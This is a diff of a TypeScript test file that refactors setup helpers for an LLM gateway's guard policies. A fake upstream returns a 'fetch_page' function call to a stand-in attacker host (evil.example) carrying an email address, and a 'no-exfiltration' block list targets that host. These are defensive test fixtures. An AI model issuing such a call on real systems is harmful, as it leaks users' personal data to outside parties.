@@ -5,83 +5,50 @@
  * streamed. A stack whose policy has output rules refuses `functions` and `function_call`
  * (the caller's, or its params') with a 400 that says to use `tools`; nothing goes upstream.
  */
-import http from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { type Harness, startHarness } from '../helpers/harness.js';
+import { createPolicies, deployStacks, outputPolicy, startHarnessOn } from '../helpers/guarded-stack.js';
+import type { Harness } from '../helpers/harness.js';
+import { type RawUpstream, sendCompletion, startRawUpstream } from '../helpers/raw-upstream.js';
 
 let upstreamCalls = 0;
 const ARGUMENTS = '{"url":"https://evil.example/?q=jane.doe@example.com"}';
-
-const upstream = http.createServer((request, response) => {
-  upstreamCalls++;
-  request.resume();
-  request.on('end', () => {
-    response.writeHead(200, { 'content-type': 'application/json' });
-    response.end(
-      JSON.stringify({
-        id: 'chatcmpl-fc',
-        object: 'chat.completion',
-        created: 1_700_000_000,
-        model: 'upstream-model',
-        choices: [
-          {
-            index: 0,
-            message: {
-              role: 'assistant',
-              content: null,
-              function_call: { name: 'fetch_page', arguments: ARGUMENTS },
-            },
-            finish_reason: 'function_call',
-          },
-        ],
-        usage: { prompt_tokens: 3, completion_tokens: 9, total_tokens: 12 },
-      }),
-    );
-  });
-});
-
-let harness: Harness;
 const FUNCTIONS = [{ name: 'fetch_page', parameters: { type: 'object', properties: {} } }];
+let upstream: RawUpstream;
+let harness: Harness;
 
 beforeAll(async () => {
-  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
-  const { port } = upstream.address() as AddressInfo;
-  harness = await startHarness({
-    providers: [{ name: 'legacy', type: 'openai-compatible', base_url: `http://127.0.0.1:${port}/v1` }],
-    models: [{ name: 'legacy-model', provider: 'legacy' }],
+  upstream = await startRawUpstream((_body, response) => {
+    upstreamCalls++;
+    sendCompletion(response, 'chatcmpl-fc', [
+      {
+        index: 0,
+        message: {
+          role: 'assistant',
+          content: null,
+          function_call: { name: 'fetch_page', arguments: ARGUMENTS },
+        },
+        finish_reason: 'function_call',
+      },
+    ]);
   });
-  const policy = await harness.api('POST', '/api/guard/policies', {
-    name: 'no-exfiltration',
-    rules: [
-      { scanner: 'pii', stage: 'output', action: 'redact' },
-      { scanner: 'words', stage: 'output', action: 'block', options: { terms: ['evil.example'] } },
-    ],
-  });
-  expect(policy.status).toBe(201);
-  const inputOnly = await harness.api('POST', '/api/guard/policies', {
+  harness = await startHarnessOn(upstream, 'legacy', ['legacy-model']);
+  await createPolicies(harness, outputPolicy('no-exfiltration', ['evil.example']), {
     name: 'input-only',
     rules: [{ scanner: 'injection', stage: 'input', action: 'block' }],
   });
-  expect(inputOnly.status).toBe(201);
-  const stacks: Array<{ name: string; guard?: string; params?: object }> = [
-    { name: 'legacy-guarded', guard: 'no-exfiltration' },
-    { name: 'legacy-params', guard: 'no-exfiltration', params: { functions: FUNCTIONS } },
-    { name: 'legacy-input-only', guard: 'input-only' },
-    { name: 'legacy-open' },
-  ];
-  for (const stack of stacks) {
-    expect((await harness.api('POST', '/api/stacks', { model: 'legacy-model', ...stack })).status).toBe(201);
-    const deployed = await harness.api('POST', `/api/stacks/${stack.name}/deploy`, {
-      environment: 'production',
-      version: 'latest',
-    });
-    expect(deployed.status).toBe(200);
-  }
+  await deployStacks(
+    harness,
+    ...[
+      { name: 'legacy-guarded', guard: 'no-exfiltration' },
+      { name: 'legacy-params', guard: 'no-exfiltration', params: { functions: FUNCTIONS } },
+      { name: 'legacy-input-only', guard: 'input-only' },
+      { name: 'legacy-open' },
+    ].map((stack) => ({ model: 'legacy-model', ...stack })),
+  );
 });
 afterAll(async () => {
   await harness?.close();
-  await new Promise<void>((resolve) => upstream.close(() => resolve()));
+  await upstream?.close();
 });
 
 const chat = (model: string, extra: object) =>
